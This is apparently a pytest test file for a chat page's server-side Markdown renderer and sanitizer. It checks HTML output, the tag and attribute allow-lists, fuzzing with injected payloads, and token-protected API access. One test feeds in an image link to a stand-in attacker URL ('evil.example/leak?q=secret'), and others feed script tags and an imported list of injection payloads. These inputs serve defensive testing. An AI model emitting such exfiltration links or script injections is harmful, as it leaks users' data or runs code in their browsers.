"""The chat page's Markdown: rendered and sanitized on the server (``POST /page/render``)."""

from __future__ import annotations

import html.parser
import random

import pytest
from payloads import PAYLOADS
from support import CodePlugin

from oracle_core.server.markdown import TAGS, MarkdownRenderer

SAFE_SCHEMES = ("http://", "https://", "mailto:")


class _Inspector(html.parser.HTMLParser):
    """Collects every tag, attribute and link of an HTML fragment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def inspect_html(fragment: str) -> _Inspector:
    inspector = _Inspector()
    inspector.feed(fragment)
    inspector.close()
    return inspector


def assert_safe(fragment: str) -> None:
    found = inspect_html(fragment)
    assert set(found.tags) <= TAGS, fragment
    for tag, name, value in found.attributes:
        assert (tag, name) in {
            ("a", "href"),
            ("a", "title"),
            ("a", "rel"),
            ("a", "target"),
            ("ol", "start"),
        }, fragment
        if name == "href":
            assert value.startswith(SAFE_SCHEMES), fragment


@pytest.fixture(scope="module")
def renderer() -> MarkdownRenderer:
    return MarkdownRenderer()


@pytest.mark.parametrize(
    ("source", "html"),
    [
        pytest.param(
            "**Rain** in *Porto*:\n\n- Monday\n- Tuesday\n\n`12 mm`",
            "<p><strong>Rain</strong> in <em>Porto</em>:</p>\n"
            "<ul>\n<li>Monday</li>\n<li>Tuesday</li>\n</ul>\n"
            "<p><code>12 mm</code></p>\n",
            id="markdown becomes html",
        ),
        pytest.param(
            "[docs](https://example.org/a?b=1)",
            '<p><a href="https://example.org/a?b=1" target="_blank" '
            'rel="noopener noreferrer nofollow">docs</a></p>\n',
            id="web links open in a new tab without referrer",
        ),
    ],
)
def test_markdown_renders_as_this_html(renderer: MarkdownRenderer, source: str, html: str) -> None:
    rendered = renderer.render(source)

    assert rendered == html


def test_tables_and_code_blocks_render(renderer: MarkdownRenderer) -> None:
    rendered = renderer.render("| day | mm |\n|---|--:|\n| Mon | 12 |\n\n```\nx < y\n```")

    assert "<table>" in rendered and "<td>12</td>" in rendered
    assert "<pre><code>x &lt; y\n</code></pre>" in rendered
    assert "style=" not in rendered  # alignment would need a style attribute


def test_an_image_is_never_loaded_it_stays_a_link(renderer: MarkdownRenderer) -> None:
    rendered = renderer.render("![chart](https://evil.example/leak?q=secret)")

    assert "<img" not in rendered
    assert 'href="https://evil.example/leak?q=secret"' in rendered


@pytest.mark.parametrize("payload", PAYLOADS)
def test_injected_html_and_script_links_are_neutralised(
    renderer: MarkdownRenderer, payload: str
) -> None:
    rendered = renderer.render(payload)

    assert_safe(rendered)
    assert "javascript:" not in rendered.lower().replace("javascript:window", "")
    assert "<script" not in rendered.lower()


@pytest.mark.parametrize("seed", range(25))
def test_fuzzed_mixes_of_markdown_and_payloads_stay_safe(
    renderer: MarkdownRenderer, seed: int
) -> None:
    rng = random.Random(seed)
    pieces = ["**", "*", "`", "[", "](", ")", "\n\n", "> ", "- ", "<", ">", '"', "'", "&#", "\\"]
    text = "".join(
        rng.choice(PAYLOADS) if rng.random() < 0.3 else rng.choice(pieces) for _ in range(60)
    )

    assert_safe(renderer.render(text))


async def test_the_page_renders_through_the_api_with_the_token(serve) -> None:
    served = await serve(CodePlugin("weather"), tokens=("s3cret",))
    body = {"texts": ["**hi**", "<script>x</script>"]}

    refused = await served.client.post("/page/render", json=body)
    answered = await served.client.post(
        "/page/render", json=body, headers={"Authorization": "Bearer s3cret"}
    )

    assert refused.status_code == 401
    assert answered.status_code == 200
    assert answered.json() == {
        "html": ["<p><strong>hi</strong></p>\n", "<p>&lt;script&gt;x&lt;/script&gt;</p>\n"]
    }


@pytest.mark.parametrize(
    "body",
    [{"texts": "not a list"}, {"texts": [1]}, {"texts": ["a"] * 1001}, {"other": []}, []],
)
async def test_a_bad_render_request_is_refused_naming_the_field(serve, body: object) -> None:
    served = await serve(CodePlugin("weather"))

    response = await served.client.post("/page/render", json=body)

    assert response.status_code == 422
